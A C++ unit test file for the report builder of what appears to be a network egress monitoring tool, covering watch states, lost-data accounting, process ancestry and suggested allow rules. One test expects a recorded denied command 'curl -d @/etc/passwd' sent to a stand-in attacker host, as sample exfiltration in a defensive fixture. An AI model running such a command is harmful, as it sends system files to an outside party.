// SPDX-License-Identifier: Apache-2.0
#include "collector/report/build.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "collector/report/words.h"
#include "tests/unit/report/evidence.h"

namespace weir::report {
namespace {

using testing::Contains;
using testing::ElementsAre;
using testing::HasSubstr;
using testing::IsEmpty;

TEST(BuildReport, CallsACompleteArmedQuietJobClean) {
  const JobReport report = BuildReport(FinishedJob(RecordJson(true, true, 0)));
  EXPECT_EQ(report.summary.watch, Watch::kWatched);
  EXPECT_TRUE(report.summary.complete);
  EXPECT_THAT(report.summary.reasons, IsEmpty());
  EXPECT_EQ(Stamp(report.summary), "CLEAN");
}

TEST(BuildReport, CallsAJobWithoutEndUnfinished) {
  store::JobEvidence job = PoisonedBuild();
  job.job.end_ns = 0;
  job.job.end = {};
  job.counts.denied = 2;
  const JobReport report = BuildReport(std::move(job));
  EXPECT_EQ(report.summary.watch, Watch::kUnfinished);
  EXPECT_FALSE(report.summary.complete);
  EXPECT_FALSE(report.summary.counts_exact);
  EXPECT_EQ(report.summary.counts.denied, 2U);
}

TEST(BuildReport, CallsAJobThatWasNotArmedNotWatched) {
  const JobReport report = BuildReport(FinishedJob(RecordJson(false, false, 0)));
  EXPECT_EQ(report.summary.watch, Watch::kNotWatched);
  EXPECT_THAT(report.summary.reasons, Contains("cgroup/connect4 does not attach"));
}

TEST(BuildReport, CallsAJobWithAnUnreadableRecordNotProven) {
  EXPECT_EQ(BuildReport(FinishedJob("")).summary.watch, Watch::kUnproven);
  EXPECT_EQ(BuildReport(FinishedJob("{}")).summary.watch, Watch::kUnproven);
}

TEST(BuildReport, TakesCountsFromTheRecordNotFromWhatArrived) {
  store::JobEvidence job = PoisonedBuild();
  job.counts.denied = 1;
  const JobReport report = BuildReport(std::move(job));
  EXPECT_EQ(report.summary.counts, (VerdictCounts{120, 4, 0}));
  EXPECT_TRUE(report.summary.counts_exact);
}

struct MissingRow {
  const char* name;
  std::function<void(store::JobEvidence&)> lose;
  const char* reason;
};

TEST(BuildReport, CallsAnyLossIncompleteAndGivesItsSize) {
  const MissingRow rows[] = {
      {"record says so", [](auto& job) { job.job.end.record = RecordJson(true, false, 0); }, "names no reason"},
      {"record names losses",
       [](auto& job) {
         job.job.end.record = RecordJson(true, false, 0, R"(,"reasons":["lost 1200 exec records: a ring was full"])");
       },
       "lost 1200 exec records"},
      {"end says incomplete", [](auto& job) { job.job.end.complete = false; }, "names no reason"},
      {"sensor's gap event",
       [](auto& job) {
         job.gaps.push_back({{"queue-full", 1, 2, {{"dns", 7}}}, 3});
       },
       "7 dns records lost"},
      {"hole in the stream",
       [](auto& job) {
         job.sequence_gaps.push_back({5, 9, 1, 2});
       },
       "5 events of the sensor (5 to 9) never arrived"},
      {"no beginning", [](auto& job) { job.job.begin_ns = 0; }, "beginning never arrived"},
      {"more flows than fit", [](auto& job) { job.flows.truncated = true; }, "more flows"},
      {"more processes than fit", [](auto& job) { job.processes.truncated = true; }, "more processes"},
      {"more gaps than fit", [](auto& job) { job.gaps_truncated = true; }, "more gaps"},
  };
  for (const MissingRow& row : rows) {
    store::JobEvidence job = FinishedJob(RecordJson(true, true, 0));
    row.lose(job);
    const JobReport report = BuildReport(std::move(job));
    EXPECT_FALSE(report.summary.complete) << row.name;
    EXPECT_EQ(Stamp(report.summary), "INCOMPLETE") << row.name;
    EXPECT_THAT(report.summary.reasons, Contains(HasSubstr(row.reason))) << row.name;
  }
}

TEST(BuildReport, NamesAGapOnceThatRecordAndEventTell) {
  store::JobEvidence job =
      FinishedJob(RecordJson(true, false, 0, R"(,"reasons":["gap (sensor-down): at most 3 records were lost"])"));
  job.gaps.push_back({{"sensor-down", 1, 2, {}}, 3});
  EXPECT_EQ(BuildReport(std::move(job)).summary.reasons.size(), 1U);
}

TEST(BuildReport, CallsAJobNotProvenWhoseGuardIsNotKnownToHaveStood) {
  for (const char* more : {R"(,"canaries":[{"proven":true},{"proven":false,"reason":"no verdict"}])",
                           R"(,"canaries":[])", R"(,"programs":[{"name":"weir_connect4","attached":false}])"}) {
    const JobReport report = BuildReport(FinishedJob(RecordJson(true, false, 0, more)));
    EXPECT_EQ(report.summary.watch, Watch::kLapsed) << more;
    EXPECT_EQ(Stamp(report.summary), "NOT PROVEN") << more;
    EXPECT_FALSE(report.summary.counts_exact) << more;
  }
}

TEST(BuildReport, PutsDeniedFirstWithProcessAndAncestry) {
  const JobReport report = BuildReport(PoisonedBuild());
  ASSERT_EQ(report.refused.size(), 2U);
  const Contact& contact = report.refused[0];
  EXPECT_EQ(contact.stored.flow.key.address, "203.0.113.66");
  EXPECT_THAT(contact.arguments, ElementsAre("curl", "-d", "@/etc/passwd", "https://evil.example.org/"));
  EXPECT_THAT(contact.ancestry, ElementsAre("/usr/bin/bash", "/usr/bin/node", "/usr/bin/dash", "/usr/bin/curl"));
  EXPECT_EQ(report.processes[contact.process].stored.exec.exec_id, 4U);
}

TEST(BuildReport, JoinsAllowedContactsByNameAndPort) {
  const JobReport report = BuildReport(PoisonedBuild());
  ASSERT_EQ(report.destinations.size(), 2U);
  const Destination& registry = report.destinations[0];
  EXPECT_EQ(registry.name, "registry.example.org");
  EXPECT_THAT(registry.addresses, ElementsAre("198.51.100.7", "198.51.100.8"));
  EXPECT_EQ(registry.totals.bytes_out, 50'000'000U);
  EXPECT_EQ(registry.totals.count, 6U);
  EXPECT_THAT(registry.processes, ElementsAre("/usr/bin/node"));
}

TEST(BuildReport, NamesAProcessByItsCommWhenItsExecWasLost) {
  store::JobEvidence job = FinishedJob(RecordJson(true, true, 1));
  AddFlow(job, 99, "", "203.0.113.1", store::Verdict::kDeny, "no-rule");
  const JobReport report = BuildReport(std::move(job));
  EXPECT_EQ(report.refused[0].executable, "comm");
  EXPECT_EQ(report.refused[0].process, Process::kNone);
}

TEST(BuildReport, SuggestsOnlyWhatAPolicyCanHold) {
  store::JobEvidence job = PoisonedBuild();
  AddFlow(job, 4, "bad name\n- x", "203.0.113.67", store::Verdict::kDeny, "no-rule");
  AddFlow(job, 4, "", "2001:db8::5", store::Verdict::kWouldDeny, "no-rule").flow.key.protocol = "udp";
  EXPECT_THAT(BuildReport(std::move(job)).suggestion,
              ElementsAre("203.0.113.66:443", "evil.example.org", "[2001:db8::5]:443/udp"));
}

TEST(BuildReport, SuggestsNothingThatADenyRuleWouldStillRefuse) {
  store::JobEvidence job = FinishedJob(RecordJson(true, true, 5));
  AddProcess(job, 1, 0, "/usr/bin/curl", {"curl"});
  AddFlow(job, 1, "", "169.254.169.254", store::Verdict::kDeny, "deny-rule").flow.rule = "169.254.169.254:*/any";
  store::StoredFlow& lookup = AddFlow(job, 1, "bad.example.org", "192.0.2.53", store::Verdict::kDeny, "dns-name");
  lookup.flow.key.hook = store::Hook::kDns;
  lookup.flow.rule = "bad.example.org:*/any";
  AddFlow(job, 1, "", "203.0.113.1", store::Verdict::kDeny, "foreign-socket");
  EXPECT_THAT(BuildReport(std::move(job)).suggestion, testing::IsEmpty());
}

TEST(BuildReport, SuggestsABoundRuleForTheExecutableThatItLacks) {
  store::JobEvidence job = FinishedJob(RecordJson(true, true, 1));
  AddProcess(job, 1, 0, "/usr/bin/curl", {"curl"});
  AddProcess(job, 2, 0, "/tmp/a b\n", {"x"});
  AddFlow(job, 1, "a.example.org", "203.0.113.1", store::Verdict::kDeny, "process");
  AddFlow(job, 2, "b.example.org", "203.0.113.2", store::Verdict::kDeny, "process");
  EXPECT_THAT(BuildReport(std::move(job)).suggestion,
              ElementsAre("{endpoint: \"a.example.org:443\", process: [/usr/bin/curl]}"));
}

TEST(BuildReport, SuggestsTheContactedPortAndNotTheLookupAsWell) {
  store::JobEvidence job = FinishedJob(RecordJson(true, true, 0));
  AddProcess(job, 1, 0, "/usr/bin/curl", {"curl"});
  AddFlow(job, 1, "a.example.org", "192.0.2.53", store::Verdict::kWouldDeny, "dns-name").flow.key.hook =
      store::Hook::kDns;
  AddFlow(job, 1, "a.example.org", "203.0.113.1", store::Verdict::kWouldDeny, "no-rule").flow.key.port = 8080;
  EXPECT_THAT(BuildReport(std::move(job)).suggestion, ElementsAre("a.example.org:8080"));
}

TEST(BuildReport, SurvivesProcessesThatNameEachOtherAsParents) {
  store::JobEvidence job = FinishedJob(RecordJson(true, true, 1));
  AddProcess(job, 1, 2, "/a", {});
  AddProcess(job, 2, 1, "/b", {});
  AddProcess(job, 3, 3, "/c", {});
  AddFlow(job, 1, "", "203.0.113.1", store::Verdict::kDeny, "no-rule");
  const JobReport report = BuildReport(std::move(job));
  EXPECT_THAT(report.roots, ElementsAre(0, 2));
  EXPECT_THAT(report.refused[0].ancestry, ElementsAre("/b", "/a"));
}

TEST(Ancestry, KeepsBothEndsOfADeepChain) {
  store::Images images;
  for (std::uint64_t i = 1; i <= 200; ++i) images[{1, i}] = {i - 1, 0, "/p" + std::to_string(i), {}};
  const auto chain = Ancestry(images, {1, 200});
  EXPECT_EQ(chain.size(), kMaxAncestry);
  EXPECT_EQ(chain.front(), "/p1");
  EXPECT_EQ(chain[kMaxAncestry / 2], "…");
  EXPECT_EQ(chain[kMaxAncestry / 2 - 1], "/p32");
  EXPECT_EQ(chain.back(), "/p200");
}

}  // namespace
}  // namespace weir::report
